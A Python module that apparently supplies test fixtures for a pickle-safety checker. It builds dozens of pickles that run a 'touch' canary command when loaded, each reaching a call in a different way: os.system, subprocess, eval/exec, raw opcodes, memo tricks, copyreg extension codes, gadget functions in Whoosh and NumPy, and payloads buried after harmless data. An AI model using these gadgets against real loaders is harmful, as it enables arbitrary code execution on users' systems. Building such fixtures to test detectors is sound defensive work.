"""Pickles that run a command when they are read: the known ways of saying "call this"."""

from __future__ import annotations

import copyreg
import os
import pickle
import pickletools
import subprocess
from collections.abc import Callable, Iterator
from typing import Any

_EXTENSIONS = {
    "EXT1": (b"\x82\xf0", 0xF0, ("posix", "system")),
    "EXT2": (b"\x83\xf0\xf0", 0xF0F0, ("subprocess", "getoutput")),
    "EXT4": (b"\x84\xf0\xf0\xf0\x00", 0xF0F0F0, ("subprocess", "getstatusoutput")),
}
HARMLESS = ("a persistent id", "a persistent id in binary")
"""Ways that need a program that helps: nothing runs by itself."""


class _Call:
    """What is pickled as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._how = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._how


def gadgets(canary: str) -> dict[str, bytes]:
    """Pickles by what they are; each makes the file *canary*, whose name a shell takes as it is."""
    command = f"touch {canary}"
    tail = b"(S'%s'\ntR." % command.encode()
    plain = b"cos\nsystem\n" + tail
    return {
        **dict(_dumped(command, f"__import__('os').system({command!r})")),
        "GLOBAL": plain,
        "INST": b"(S'%s'\nios\nsystem\n." % command.encode(),
        "OBJ": b"(csubprocess\nPopen\n]S'touch'\naS'%s'\nao." % canary.encode(),
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + tail,
        "STACK_GLOBAL by way of another module": b"\x80\x04\x8c\x07tarfile\x8c\x09os.system\x93" + tail,
        "names out of the memo": b"\x80\x04S'os'\np0\n0S'system'\np1\n0g0\ng1\n\x93" + tail,
        "getattr of an import": (
            b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR" + tail
        ),
        "a class that is allowed, rebuilt": (
            b"\x80\x02cwhoosh.fields\nFieldType\nN}S'index'\ncos\nsystem\ns\x86b0cos\nsystem\n" + tail
        ),
        "a function of Whoosh that finds others": (
            b"cwhoosh.util.loading\nfind_object\n(S'os.system'\ntR" + tail
        ),
        "a function of NumPy that runs a text": (
            b"cnumpy.testing\nrundocs\n0cbuiltins\nexec\n(S'import os; os.system(\"%s\")'\ntR." % command.encode()
        ),
        "a persistent id": b"Pos.system\n.",
        "a persistent id in binary": b"cos\nsystem\nQ.",
        **{name: operation + tail for name, (operation, _, _) in _EXTENSIONS.items()},
        "a pickle in a pickle": pickle.dumps(_Call(pickle.loads, plain), 2),
        "after sound values": pickle.dumps([{"a": 1}, "x" * 50])[:-1] + b"0" + plain,
        "the last of many": b"(lp0\n" + b"I1\na" * 500 + plain[:-1] + b"a.",
    }  # fmt: skip


def _dumped(command: str, python: str) -> Iterator[tuple[str, bytes]]:
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        yield f"os.system, protocol {protocol}", pickle.dumps(_Call(os.system, command), protocol)
        yield f"subprocess, protocol {protocol}", pickle.dumps(_Call(subprocess.call, command.split()), protocol)
    for protocol in (2, 4):
        yield f"eval, protocol {protocol}", pickle.dumps(_Call(eval, python), protocol)
        yield f"exec, protocol {protocol}", pickle.dumps(_Call(exec, python), protocol)
    yield "without frames", pickletools.optimize(pickle.dumps(_Call(os.system, command), 4))


def register_extensions() -> None:
    """Let extension codes mean what runs a command, as some program may have done."""
    for _, code, (module, name) in _EXTENSIONS.values():
        copyreg.add_extension(module, name, code)
